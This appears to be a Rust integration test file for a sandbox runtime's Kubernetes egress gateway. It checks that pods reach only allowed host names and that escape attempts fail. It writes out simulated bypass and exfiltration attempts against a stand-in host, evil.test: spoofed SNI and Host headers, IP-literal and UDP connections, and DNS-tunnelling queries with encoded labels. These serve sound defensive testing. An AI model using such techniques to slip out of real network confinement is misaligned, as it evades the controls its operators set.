//! Egress by name on a real cluster: the gateway pod, its policies, the
//! NetworkPolicy probe and the refusal, attacked from inside real
//! sandbox pods.
//!
//! "The internet" is `corral_testing::internet` (`pypi.test`, also
//! `mirror.test`, and `evil.test`: HTTP, HTTPS under a per-run CA, a
//! package index, a git repository, a UDP echo), its servers joined to
//! the Docker network the cluster's pods run on
//! (`CORRAL_TEST_KUBE_POD_NETWORK`, a local cluster whose kubelet runs
//! pods as Docker containers, such as rusternetes), where Docker's
//! resolver (127.0.0.11 in every pod) knows their names: the gateways'
//! upstream (`kubernetes.egress_nameservers`).
//!
//! `CORRAL_TEST_KUBE_NETPOL` says what the cluster's network plugin does
//! with NetworkPolicy (`enforced` or `not-enforced`): the probe must say
//! the same, a start must be refused where it is not enforced (unless
//! accepted), and each way around the gateway (an IP literal, another
//! port, UDP, another resolver) must fail exactly where it is enforced.
//! What the gateway itself does (DNS answers, SNI and `Host` routing,
//! counts) is checked on any cluster, with `accept_unenforced_egress`
//! where policies are not enforced.
//!
//! Skipped, saying why, without `CORRAL_TEST_KUBECONFIG` (see
//! `contract.rs` for the namespace and agent image variables), and the
//! cases that need the internet without `CORRAL_TEST_KUBE_POD_NETWORK`.

use std::collections::BTreeMap;
use std::io::Write;
use std::sync::Arc;
use std::time::{Duration, Instant};

use corral::{Runtime, RuntimeConfig, Sandbox};
use corral_core::egress::EgressPolicy;
use corral_core::labels;
use corral_core::{Backend, CommandSpec, Error, Network, SandboxSpec};
use corral_kube::egress::{
    self as kegress, Enforcement, EGRESS_FOR_LABEL, EGRESS_LABEL, GATEWAY_CONTAINER, ROLE_GATEWAY,
    ROLE_LABEL,
};
use corral_kube::lease::LEASE_LABEL;
use corral_kube::{KubeBackend, KubeConfig};
use corral_testing::contract::TEST_LABEL;
use corral_testing::internet::{self, internet, Joined};
use k8s_openapi::api::core::v1::Pod;
use k8s_openapi::api::networking::v1::NetworkPolicy;
use kube::api::{DeleteParams, ListParams, LogParams, PostParams};
use kube::Api;

fn say(text: &str) {
    // Straight to stderr: the harness captures eprintln!, and a skip must
    // be seen.
    let _ = writeln!(std::io::stderr(), "{text}");
}

/// What the cluster does with NetworkPolicy, as the environment says.
fn enforced() -> Option<bool> {
    match std::env::var("CORRAL_TEST_KUBE_NETPOL").ok()?.as_str() {
        "enforced" => Some(true),
        "not-enforced" => Some(false),
        other => panic!("CORRAL_TEST_KUBE_NETPOL is '{other}': expected enforced or not-enforced"),
    }
}

fn kube_config(accept_unenforced: bool) -> Option<KubeConfig> {
    let kubeconfig = std::env::var("CORRAL_TEST_KUBECONFIG")
        .ok()
        .filter(|v| !v.is_empty())?;
    Some(KubeConfig {
        kubeconfig: Some(kubeconfig),
        namespace: Some(
            std::env::var("CORRAL_TEST_KUBE_NAMESPACE").unwrap_or_else(|_| "corral-test".into()),
        ),
        agent_image: std::env::var("CORRAL_TEST_KUBE_AGENT_IMAGE")
            .unwrap_or_else(|_| corral_kube::default_agent_image()),
        // Docker's resolver in every pod of the local cluster, which knows
        // the internet's names on the pod network.
        egress_nameservers: vec!["127.0.0.11".into()],
        accept_unenforced_egress: accept_unenforced,
        ..KubeConfig::default()
    })
}

/// The cluster, or `None` after saying why `test` is skipped.
async fn backend(test: &str, accept_unenforced: bool) -> Option<KubeBackend> {
    let Some(config) = kube_config(accept_unenforced) else {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBECONFIG is not set, so there is no cluster"
        ));
        return None;
    };
    Some(
        KubeBackend::connect(&config)
            .await
            .expect("CORRAL_TEST_KUBECONFIG names a cluster that answers"),
    )
}

/// The internet joined to the pods' network, or `None` after saying why.
fn joined(test: &str) -> Option<Joined> {
    let Some(network) = std::env::var("CORRAL_TEST_KUBE_POD_NETWORK")
        .ok()
        .filter(|v| !v.is_empty())
    else {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBE_POD_NETWORK (the Docker network of the cluster's \
             pods) is not set, so the test internet cannot be reached from pods"
        ));
        return None;
    };
    Some(internet::join(internet(), &network))
}

fn runtime(backend: &KubeBackend) -> Runtime {
    Runtime::new(
        Arc::new(backend.clone()),
        RuntimeConfig {
            shared_slots: false,
            reap_orphans: false,
            ..RuntimeConfig::default()
        },
    )
}

fn policy(allow: &[&str], deny: &[&str]) -> EgressPolicy {
    EgressPolicy {
        allow: allow.iter().map(|s| s.to_string()).collect(),
        deny: deny.iter().map(|s| s.to_string()).collect(),
    }
}

/// The internet's image, less what a pod cannot express, with `network`.
fn spec(test: &str, network: Network) -> SandboxSpec {
    let mut spec = SandboxSpec::new(&internet().image);
    spec.limits.pids = None;
    for t in &mut spec.tmpfs {
        t.options.clear();
    }
    spec.labels.insert(TEST_LABEL.into(), test.into());
    spec.network = network;
    spec
}

fn pods(backend: &KubeBackend) -> Api<Pod> {
    Api::namespaced(backend.client().clone(), backend.namespace())
}

fn policies(backend: &KubeBackend) -> Api<NetworkPolicy> {
    Api::namespaced(backend.client().clone(), backend.namespace())
}

/// Names of the pods and policies labelled `selector`.
async fn objects(backend: &KubeBackend, selector: &str) -> Vec<String> {
    let params = ListParams::default().labels(selector);
    let mut out: Vec<String> = pods(backend)
        .list(&params)
        .await
        .expect("list pods")
        .items
        .into_iter()
        .filter_map(|p| p.metadata.name.map(|n| format!("pod/{n}")))
        .collect();
    out.extend(
        policies(backend)
            .list(&params)
            .await
            .expect("list policies")
            .items
            .into_iter()
            .filter_map(|p| p.metadata.name.map(|n| format!("networkpolicy/{n}"))),
    );
    out
}

/// Waits until nothing is labelled `selector` (deletion takes a moment).
async fn assert_gone(backend: &KubeBackend, selector: &str) {
    let until = Instant::now() + Duration::from_secs(60);
    loop {
        let left = objects(backend, selector).await;
        if left.is_empty() {
            return;
        }
        assert!(Instant::now() < until, "left behind ({selector}): {left:?}");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// A sandbox with an egress policy on the cluster.
struct Sb {
    backend: KubeBackend,
    /// Kept for the sandbox's life: it owns its watch.
    _runtime: Runtime,
    sandbox: Option<Sandbox>,
    test: String,
}

impl Sb {
    /// The usual policy: `pypi.test` (80, 443) and `mirror.test:8443`.
    async fn new(test: &str) -> Option<(Sb, Joined)> {
        Sb::with(
            test,
            policy(&["pypi.test", "mirror.test:8443"], &["169.254.0.0/16"]),
        )
        .await
    }

    async fn with(test: &str, egress: EgressPolicy) -> Option<(Sb, Joined)> {
        // Run where policies are not enforced too: what the gateway does
        // is the same; the bypass tests say what the cluster does.
        let backend = backend(test, true).await?;
        let net = joined(test)?;
        let runtime = runtime(&backend);
        let label = format!("{test}-{}", std::process::id());
        let sandbox = runtime
            .create(&spec(&label, Network::Egress(egress)))
            .await
            .expect("create a sandbox with an egress policy");
        Some((
            Sb {
                backend,
                _runtime: runtime,
                sandbox: Some(sandbox),
                test: label,
            },
            net,
        ))
    }

    fn sandbox(&self) -> &Sandbox {
        self.sandbox.as_ref().expect("open")
    }

    /// Runs `script`; stdout and stderr together, and the exit code.
    async fn sh(&self, script: &str) -> (String, i32) {
        let r = self
            .sandbox()
            .run(&CommandSpec::shell(format!("( {script} ) 2>&1")).timeout(Duration::from_secs(60)))
            .await;
        (
            String::from_utf8_lossy(&r.stdout).into_owned(),
            r.exit_code.unwrap_or(-1),
        )
    }

    async fn counts(&self) -> corral_core::egress::EgressCounts {
        self.backend
            .egress_counts(self.sandbox().id())
            .await
            .expect("read the gateway's counts")
            .expect("the sandbox has a gateway")
    }

    /// The gateway pod of this sandbox.
    async fn gateway(&self) -> Pod {
        let params = ListParams::default().labels(&format!(
            "{EGRESS_LABEL}={},{ROLE_LABEL}={ROLE_GATEWAY}",
            self.sandbox().id()
        ));
        let mut list = pods(&self.backend)
            .list(&params)
            .await
            .expect("list gateways")
            .items;
        assert_eq!(list.len(), 1, "one gateway per sandbox");
        list.remove(0)
    }

    /// Destroys the sandbox; its gateway and policies must go with it.
    async fn close(mut self) {
        let sandbox = self.sandbox.take().expect("open");
        let id = sandbox.id().to_string();
        sandbox.destroy().await.expect("destroy");
        assert_gone(&self.backend, &format!("{EGRESS_LABEL}={id}")).await;
        assert_gone(&self.backend, &format!("{TEST_LABEL}={}", self.test)).await;
    }
}

impl Drop for Sb {
    fn drop(&mut self) {
        // A failed test still leaves nothing: the pods by label, then the
        // egress objects by gc's own rule (their sandbox pod gone).
        let Some(sandbox) = self.sandbox.take() else {
            return;
        };
        let id = sandbox.id().to_string();
        let backend = self.backend.clone();
        let test = self.test.clone();
        let _ = std::thread::spawn(move || {
            let Ok(rt) = tokio::runtime::Runtime::new() else {
                return;
            };
            rt.block_on(async move {
                let zero = DeleteParams {
                    grace_period_seconds: Some(0),
                    ..Default::default()
                };
                for sel in [
                    format!("{TEST_LABEL}={test}"),
                    format!("{EGRESS_LABEL}={id}"),
                ] {
                    let params = ListParams::default().labels(&sel);
                    let _ = pods(&backend).delete_collection(&zero, &params).await;
                    let _ = policies(&backend)
                        .delete_collection(&DeleteParams::default(), &params)
                        .await;
                }
            });
        })
        .join();
    }
}

fn curl(args: &str) -> String {
    format!("curl -sS --max-time 20 --connect-timeout 5 {args}")
}

/// The probe says what the cluster does, and leaves nothing.
#[tokio::test(flavor = "multi_thread")]
async fn the_probe_tells_whether_network_policy_is_enforced() {
    let test = "the_probe_tells_whether_network_policy_is_enforced";
    let Some(backend) = backend(test, false).await else {
        return;
    };
    let Some(expected) = enforced() else {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBE_NETPOL does not say what this cluster does"
        ));
        return;
    };
    let owner = runtime(&backend).owner().clone();
    let t = Instant::now();
    let verdict = backend
        .probe_network_policy(&owner)
        .await
        .expect("the probe runs");
    say(&format!("{test}: {verdict:?} in {:?}", t.elapsed()));
    match (&verdict, expected) {
        (Enforcement::Enforced(_), true) | (Enforcement::NotEnforced(_), false) => {}
        _ => panic!("the cluster is said to be enforced={expected}, the probe saw {verdict:?}"),
    }
    // doctor reports the same.
    let check = backend.network_policy_check(&owner).await;
    assert_eq!(check.ok, expected, "{check:?}");
    assert!(
        check
            .detail
            .starts_with(if expected { "enforced" } else { "NOT enforced" }),
        "{check:?}"
    );
    let lease = backend
        .lease_name()
        .expect("the probe made this process's Lease");
    assert_gone(&backend, &format!("{EGRESS_LABEL},{LEASE_LABEL}={lease}")).await;
}

/// Where NetworkPolicy is not enforced, a start with an egress policy is
/// refused (typed, naming the field and the switch) and leaves nothing.
#[tokio::test(flavor = "multi_thread")]
async fn a_start_is_refused_where_policy_is_not_enforced() {
    let test = "a_start_is_refused_where_policy_is_not_enforced";
    let Some(backend) = backend(test, false).await else {
        return;
    };
    if enforced() != Some(false) {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBE_NETPOL is not not-enforced on this cluster"
        ));
        return;
    }
    let rt = runtime(&backend);
    let label = format!("k-egress-refused-{}", std::process::id());
    let s = spec(&label, Network::Egress(policy(&["pypi.test"], &[])));
    match rt.create(&s).await {
        Err(e @ Error::Unsupported { .. }) => {
            let text = e.to_string();
            assert!(text.contains("network.egress 'pypi.test'"), "{text}");
            assert!(text.contains("does not enforce NetworkPolicy"), "{text}");
            assert!(
                text.contains("kubernetes.accept_unenforced_egress"),
                "{text}"
            );
        }
        Err(e) => panic!("expected unsupported, got {e:?}"),
        Ok(sb) => {
            sb.destroy().await.expect("destroy");
            panic!("a sandbox with an egress policy ran unconfined");
        }
    }
    assert_gone(&backend, &format!("{TEST_LABEL}={label}")).await;
    // network: bridge still starts: only egress policies need enforcement.
    let sb = rt
        .create(&spec(&label, Network::Bridge))
        .await
        .expect("bridge starts");
    sb.destroy().await.expect("destroy");
    assert_gone(&backend, &format!("{TEST_LABEL}={label}")).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_names_work_through_the_gateway() {
    let Some((sb, _)) = Sb::new("k-egress-allowed").await else {
        return;
    };
    let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host pypi.test)\n", 0)
    );
    let (out, rc) = sb.sh(&curl("http://pypi.test/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host pypi.test)\n", 0)
    );
    let (out, rc) = sb.sh(&curl("https://mirror.test:8443/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host mirror.test:8443)\n", 0)
    );
    // Not terminated: the server's own certificate, under the run's CA.
    let (out, _) = sb
        .sh(&curl(
            "-v https://pypi.test/ -o /dev/null 2>&1 | grep -i 'issuer'",
        ))
        .await;
    assert!(out.contains("corral test CA"), "{out}");
    let (out, rc) = sb
        .sh(
            "pip install --no-cache-dir --disable-pip-version-check --target /tmp/site \
             --index-url https://pypi.test/simple tinypkg && \
             PYTHONPATH=/tmp/site python3 -c 'import tinypkg; print(tinypkg.GREETING)'",
        )
        .await;
    assert_eq!(rc, 0, "{out}");
    assert!(out.ends_with("tinypkg from the local index\n"), "{out}");
    let (out, rc) = sb
        .sh("git clone -q https://pypi.test/repo.git /tmp/repo && cat /tmp/repo/README")
        .await;
    assert_eq!((out.as_str(), rc), ("cloned-from-the-test-host\n", 0));
    let counts = sb.counts().await;
    assert!(counts.connections_allowed >= 6, "{counts:?}");
    assert_eq!(counts.connections_refused, 0, "{counts:?}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_not_allowed_does_not_resolve_and_is_counted() {
    let Some((sb, _)) = Sb::new("k-egress-nxdomain").await else {
        return;
    };
    let (out, rc) = sb.sh(&curl("https://evil.test/")).await;
    assert_eq!(rc, 6, "curl: could not resolve: {out}");
    assert!(out.contains("Could not resolve host: evil.test"), "{out}");
    let (out, rc) = sb.sh(&curl("http://evil.test/")).await;
    assert_eq!(rc, 6, "{out}");
    let counts = sb.counts().await;
    assert!(counts.dns_refused >= 2, "{counts:?}");
    assert!(
        counts.recent_refusals.iter().any(|r| r == "dns evil.test"),
        "{counts:?}"
    );
    sb.close().await;
}

const DIG: &str = r#"python3 -c "
import socket, struct, sys, random
server, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3])
q = struct.pack('>HHHHHH', random.randrange(65536), 0x100, 1, 0, 0, 0)
q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.sendto(q, (server, 53)); r = s.recv(1500)
    print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
except OSError as e:
    print('failed', e.errno, e)
""#;

#[tokio::test(flavor = "multi_thread")]
async fn dns_tunnelling_through_the_gateway_gets_nothing() {
    let Some((sb, _)) = Sb::new("k-egress-tunnel").await else {
        return;
    };
    let (resolver, _) = sb
        .sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf")
        .await;
    let resolver = resolver.trim().to_string();
    let gateway_ip = sb
        .gateway()
        .await
        .status
        .and_then(|s| s.pod_ip)
        .expect("the gateway's address");
    assert_eq!(
        resolver, gateway_ip,
        "the sandbox resolves through its gateway"
    );
    for name in [
        "c2VjcmV0.evil.test",
        "exfil.data.example.com",
        "x.pypi.test",
    ] {
        let (out, _) = sb.sh(&format!("{DIG} {resolver} {name} 1")).await;
        assert!(out.starts_with("rcode 3 answers 0"), "{name}: {out}");
    }
    for qtype in [16, 15, 28] {
        let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test {qtype}")).await;
        assert!(out.starts_with("rcode 0 answers 0"), "type {qtype}: {out}");
    }
    let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test 1")).await;
    assert!(out.starts_with("rcode 0 answers 1"), "{out}");
    let counts = sb.counts().await;
    assert!(
        counts
            .recent_refusals
            .iter()
            .any(|r| r == "dns c2vjcmv0.evil.test"),
        "{counts:?}"
    );
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sni_or_host_of_another_name_is_refused_by_the_gateway() {
    let Some((sb, _)) = Sb::new("k-egress-sni").await else {
        return;
    };
    let (gw, _) = sb.sh("getent hosts pypi.test | cut -d' ' -f1").await;
    let gw = gw.trim();
    let gateway_ip = sb
        .gateway()
        .await
        .status
        .and_then(|s| s.pod_ip)
        .expect("the gateway's address");
    assert_eq!(gw, gateway_ip, "an allowed name resolves to the gateway");
    // SNI of evil.test, to the gateway.
    let (out, rc) = sb
        .sh(&curl(&format!(
            "--resolve evil.test:443:{gw} https://evil.test/"
        )))
        .await;
    assert_ne!(rc, 0, "{out}");
    assert!(out.contains("access denied"), "{out}");
    // Host of evil.test over plain HTTP, to the gateway.
    let (out, rc) = sb.sh(&curl("-H 'Host: evil.test' http://pypi.test/")).await;
    assert_eq!(rc, 0, "{out}");
    assert_eq!(
        out,
        "corral egress: evil.test:80 is not allowed by this sandbox's egress policy\n"
    );
    // The gateway as a forward proxy: refused.
    let (out, _) = sb
        .sh(&format!(
            "http_proxy=http://pypi.test:80 {}",
            curl("http://evil.test/")
        ))
        .await;
    assert!(out.contains("proxy request"), "{out}");
    let counts = sb.counts().await;
    assert_eq!(counts.connections_refused, 3, "{counts:?}");
    sb.close().await;
}

/// Runs `attack` in a sandbox and checks it got through exactly where the
/// cluster does not enforce NetworkPolicy (the probe's verdict, checked
/// against `CORRAL_TEST_KUBE_NETPOL` by its own test): where it is
/// enforced the policy stops it; where it is not, this is what corral's
/// refusal of such starts protects from.
async fn bypass(test: &str, attack: impl Fn(&Joined) -> String, got_through: fn(&str) -> bool) {
    if kube_config(true).is_none() {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBECONFIG is not set, so there is no cluster"
        ));
        return;
    }
    let Some(expected) = enforced() else {
        say(&format!(
            "skipped {test}: CORRAL_TEST_KUBE_NETPOL does not say what this cluster does"
        ));
        return;
    };
    let Some((sb, net)) = Sb::new(test).await else {
        return;
    };
    let (out, _) = sb.sh(&attack(&net)).await;
    say(&format!("{test}: {}", out.trim()));
    if expected {
        assert!(!got_through(&out), "the policy let it through: {out}");
    } else {
        assert!(
            got_through(&out),
            "not enforced, yet it was stopped (is the probe wrong?): {out}"
        );
    }
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ip_literal_is_stopped_where_policy_is_enforced() {
    bypass(
        "k-bypass-ip",
        |net| curl(&format!("http://{}/", net.evil_ip)),
        |out| out.contains("hello from evil"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_port_is_stopped_where_policy_is_enforced() {
    bypass(
        "k-bypass-port",
        |net| curl(&format!("-k https://{}:8443/", net.evil_ip)),
        |out| out.contains("hello from evil"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn udp_is_stopped_where_policy_is_enforced() {
    bypass(
        "k-bypass-udp",
        |net| {
            format!(
                r#"python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.sendto(b'x' * 1200, ('{}', 443)); print(s.recv(100))
except OSError as e:
    print('failed', e.errno, e)
""#,
                net.evil_ip
            )
        },
        |out| out.contains("echo:"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_resolver_is_stopped_where_policy_is_enforced() {
    // evil.test echoes UDP on 53: any answer means the datagram got there.
    bypass(
        "k-bypass-dns",
        |net| format!("{DIG} {} evil.test 1", net.evil_ip),
        |out| !out.starts_with("failed"),
    )
    .await;
}

/// The objects as the cluster holds them: a gateway pod as hardened as
/// mapped (its PID 1 runs as nobody with no capability, checked inside),
/// the two policies, the sandbox resolving through the gateway.
#[tokio::test(flavor = "multi_thread")]
async fn the_gateway_runs_as_nobody_and_the_policies_confine_the_pair() {
    let Some((sb, _)) = Sb::new("k-egress-objects").await else {
        return;
    };
    let gw = sb.gateway().await;
    let name = gw.metadata.name.clone().expect("name");
    let l = gw.metadata.labels.clone().unwrap_or_default();
    let sandbox_pod = l[EGRESS_FOR_LABEL].clone();
    assert_eq!(name, kegress::gateway_of(&sandbox_pod));
    assert!(
        !l.contains_key(labels::SANDBOX),
        "a gateway is not a sandbox"
    );
    assert!(
        sb.backend
            .list()
            .await
            .expect("list")
            .iter()
            .all(|i| i.placement.id() != name),
        "not listed as a sandbox"
    );
    // Inside: the gateway says what it runs as (from /proc/self).
    let log = pods(&sb.backend)
        .logs(
            &name,
            &LogParams {
                container: Some(GATEWAY_CONTAINER.into()),
                ..Default::default()
            },
        )
        .await
        .expect("the gateway's log");
    assert!(
        log.contains("uid 65534, CapEff 0000000000000000, root ro"),
        "{log}"
    );
    // The sandbox pod: resolver = gateway, selected by its policy.
    let sandbox = pods(&sb.backend)
        .get(&sandbox_pod)
        .await
        .expect("sandbox pod");
    let spec = sandbox.spec.clone().expect("spec");
    assert_eq!(spec.dns_policy.as_deref(), Some("None"));
    assert_eq!(
        spec.dns_config.and_then(|d| d.nameservers),
        Some(vec![gw.status.and_then(|s| s.pod_ip).expect("ip")])
    );
    let confine = policies(&sb.backend)
        .get(&sandbox_pod)
        .await
        .expect("the sandbox's policy");
    let selected = confine
        .spec
        .as_ref()
        .and_then(|s| s.pod_selector.clone())
        .and_then(|s| s.match_labels)
        .expect("selector");
    let sandbox_labels: BTreeMap<String, String> = sandbox.metadata.labels.unwrap_or_default();
    assert!(
        selected
            .iter()
            .all(|(k, v)| sandbox_labels.get(k) == Some(v)),
        "{selected:?} selects {sandbox_labels:?}"
    );
    assert_eq!(
        confine.spec.as_ref().and_then(|s| s.policy_types.clone()),
        Some(vec!["Egress".to_string()])
    );
    let bound = policies(&sb.backend)
        .get(&name)
        .await
        .expect("the gateway's policy");
    assert_eq!(
        bound.spec.as_ref().and_then(|s| s.policy_types.clone()),
        Some(vec!["Ingress".to_string(), "Egress".to_string()])
    );
    sb.close().await;
}

/// What a corral that died between making a gateway and its sandbox pod
/// leaves (a gateway and its policies, owned by a Lease that no longer
/// exists) is collected by `gc`.
#[tokio::test(flavor = "multi_thread")]
async fn a_gateway_without_its_sandbox_is_collected() {
    let test = "a_gateway_without_its_sandbox_is_collected";
    let Some(backend) = backend(test, true).await else {
        return;
    };
    let id = format!("sb-orphan{}", std::process::id());
    let sandbox_pod = format!("corral-{id}-dead");
    let gateway = kegress::gateway_of(&sandbox_pod);
    let dead_lease = "corral-owner-gone-1-00000000";
    let egress = policy(&["pypi.test"], &[]);
    let pod = kegress::gateway_pod(
        &egress,
        &kegress::GatewayParams {
            name: &gateway,
            egress_id: &id,
            sandbox_pod: &sandbox_pod,
            lease: dead_lease,
            agent_image: &backend.config().agent_image,
            nameservers: &[],
        },
    )
    .expect("maps");
    pods(&backend)
        .create(&PostParams::default(), &pod)
        .await
        .expect("make an orphan gateway");
    for np in [
        kegress::sandbox_policy(&id, &sandbox_pod, dead_lease, &egress.ports()),
        kegress::gateway_policy(
            &egress,
            &kegress::GatewayPolicyParams {
                name: &gateway,
                egress_id: &id,
                sandbox_pod: &sandbox_pod,
                lease: dead_lease,
                nameservers: &[],
            },
        )
        .expect("maps"),
    ] {
        policies(&backend)
            .create(&PostParams::default(), &np)
            .await
            .expect("make an orphan policy");
    }
    let removed = backend.collect_garbage().await.expect("gc");
    for what in [
        format!("pod/{gateway}"),
        format!("networkpolicy/{gateway}"),
        format!("networkpolicy/{sandbox_pod}"),
    ] {
        assert!(removed.contains(&what), "{what} not in {removed:?}");
    }
    assert_gone(&backend, &format!("{EGRESS_LABEL}={id}")).await;
}
